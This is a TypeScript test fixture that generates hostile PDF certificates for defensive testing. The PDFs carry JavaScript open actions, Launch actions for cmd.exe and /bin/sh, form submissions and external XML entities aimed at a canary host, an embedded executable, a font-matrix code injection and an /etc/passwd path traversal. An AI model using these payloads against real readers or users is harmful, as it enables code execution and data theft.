// Certificates that try to do something when they are opened (hazard C15): every way a PDF has to run a
// script, start a program, call out or bring a file along, each on top of the same honest page.
import { type HostileFile, hostile } from './hostile-file.ts';
import { type CertificateChanges, rawCertificate } from './raw-pdf.ts';

/** `canary` is an address that must never be asked for. */
export function activePdfs(canary: string): readonly HostileFile[] {
  const script = `app.alert\\(1\\); this.submitForm\\('${canary}/js'\\); globalThis.polluted = 1;`;
  const act = `<< /S /JavaScript /JS (${script}) >>`;
  const link = (action: string, more = ''): string =>
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 90 90] ${more} /A ${action} >>]`;
  const cases: readonly (readonly [string, CertificateChanges])[] = [
    ['a script on opening', { catalog: `/OpenAction ${act}` }],
    [
      'a script in a stream, on opening',
      {
        catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
        objects: [{ dictionary: '', data: 'globalThis.polluted = 1;' }],
      },
    ],
    [
      'names that are spelt with codes',
      {
        catalog: `/Open#41ction << /#53 /J#61vaScript /J#53 (${script}) >>`,
        page: `/#41A << /O << /S /#4aavaScript /#4aS (${script}) >> >>`,
      },
    ],
    [
      'scripts of the document by name',
      { catalog: `/Names << /JavaScript << /Names [(start) ${act} (more) ${act}] >> >>` },
    ],
    [
      'scripts on closing, saving and printing',
      { catalog: `/AA << /WC ${act} /WS ${act} /DS ${act} /WP ${act} /DP ${act} >>` },
    ],
    ['scripts on the page', { page: `/AA << /O ${act} /C ${act} >>` }],
    [
      'a program that a link starts',
      { page: link('<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>') },
    ],
    ['a program on opening', { catalog: '/OpenAction << /S /Launch /F (/bin/sh) >>' }],
    [
      'an address that is opened with the file',
      { catalog: `/OpenAction << /S /URI /URI (${canary}/open) >>` },
    ],
    [
      'a link whose action is followed by a script',
      { page: link(`<< /S /URI /URI (${canary}/link) /Next [${act} << /S /Launch /F (x) >>] >>`) },
    ],
    [
      'a link that is a script',
      { page: link(`<< /S /URI /URI (javascript:globalThis.polluted=1) >>`) },
    ],
    [
      'a form that is sent on opening',
      {
        catalog:
          `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${canary}/form) >> /Flags 4 >> ` +
          '/AcroForm << /Fields [6 0 R] >>',
        page: '/Annots [6 0 R]',
        objects: [
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (x) /Rect [0 0 9 9] /AA << /K ${act} /F ${act} /V ${act} /C ${act} >> >>`,
        ],
      },
    ],
    [
      'data that is imported on opening',
      { catalog: `/OpenAction << /S /ImportData /F << /FS /URL /F (${canary}/data.fdf) >> >>` },
    ],
    [
      'a jump into a file of another computer',
      {
        page: link(
          '<< /S /GoToR /F (\\\\\\\\canary.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
          `/PA ${act}`,
        ),
      },
    ],
    [
      'an attached program and a jump into it',
      {
        catalog:
          '/OpenAction << /S /GoToE /T << /R /C /N (run.exe) >> /D [0 /Fit] >> ' +
          '/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >> /AF [6 0 R]',
        page: '/AF [6 0 R] /Annots [<< /Type /Annot /Subtype /FileAttachment /FS 6 0 R /Rect [0 0 9 9] >>]',
        objects: [
          '<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 7 0 R >> >>',
          {
            dictionary: '/Type /EmbeddedFile /Subtype /application#2Fx-msdownload',
            data: 'MZ\x90\x00\x03',
          },
        ],
      },
    ],
    [
      'a form in XML with a script and an outside entity',
      {
        catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >> /NeedsRendering true',
        objects: [
          {
            dictionary: '',
            data:
              `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/xfa">]><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">` +
              `<subform name="a"><event activity="initialize"><script contentType="application/x-javascript">globalThis.polluted=1</script></event>&e;</subform></template>`,
          },
        ],
      },
    ],
    [
      'films, sounds and Flash that start by themselves',
      {
        page:
          `/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /AA << /PO << /S /Rendition /OP 0 /JS (${script}) >> >> >> ` +
          `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> >> ` +
          `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F << /FS /URL /F (${canary}/film) >> >> >>]`,
        objects: [`<< /Type /Filespec /FS /URL /F (${canary}/a.swf) >>`],
      },
    ],
    [
      'bookmarks with scripts',
      {
        catalog: '/Outlines 6 0 R /PageMode /UseOutlines',
        objects: [
          '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
          `<< /Title (x) /Parent 6 0 R /A ${act} >>`,
        ],
      },
    ],
    [
      'a stream that lies on a server',
      {
        content: '/X0 Do',
        resources: '/XObject << /X0 6 0 R >>',
        objects: [
          {
            dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F << /FS /URL /F (${canary}/stream) >> /FFilter /FlateDecode`,
            data: '',
          },
        ],
      },
    ],
    [
      'a page of another file shown in this one',
      {
        content: '/X0 Do',
        resources: '/XObject << /X0 6 0 R >>',
        objects: [
          {
            dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (${canary}/ref.pdf) >> /Page 0 >> /OPI << /2.0 << /F (${canary}/opi) >> >>`,
            data: '',
          },
        ],
      },
    ],
    [
      'scripts hidden among the resources of the page',
      { resources: `/Properties << /P0 << /A ${act} /AA << /O ${act} >> >> >> /JS (${script})` },
    ],
    [
      'a font whose matrix is a program',
      {
        font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontDescriptor 6 0 R /FirstChar 32 /LastChar 33 /Widths [250 250] >>',
        objects: [
          '<< /Type /FontDescriptor /FontName /Helvetica /Flags 32 /FontFile 7 0 R /ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 /FontBBox [0 0 1000 1000] >>',
          {
            dictionary: '/Length1 240 /Length2 0 /Length3 0',
            data: '%!PS-AdobeFont-1.0: Helvetica\n/FontName /Helvetica def\n/FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.polluted = 1; //)] readonly def\n/Encoding StandardEncoding def\ncurrentfile eexec\n',
          },
        ],
      },
    ],
    [
      'a matrix of words in the font',
      {
        font: `<< /Type /Font /Subtype /Type3 /FontMatrix [1 0 0 1 0 (0\\); globalThis.polluted = 1; //)] /FontBBox [0 0 9 9] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>`,
      },
    ],
    [
      'a character map by the path of a file',
      {
        font: '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /..#2F..#2F..#2Fetc#2Fpasswd /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (..\\/..\\/etc) /Supplement 0 >> >>] >>',
      },
    ],
    [
      'a description with an outside entity',
      {
        catalog: '/Metadata 6 0 R',
        objects: [
          {
            dictionary: '/Type /Metadata /Subtype /XML',
            data: `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>&e;</rdf:Description></rdf:RDF></x:xmpmeta>`,
          },
        ],
      },
    ],
  ];
  return cases.map(([what, changes]) => hostile(what, 'certificate.pdf', rawCertificate(changes)));
}
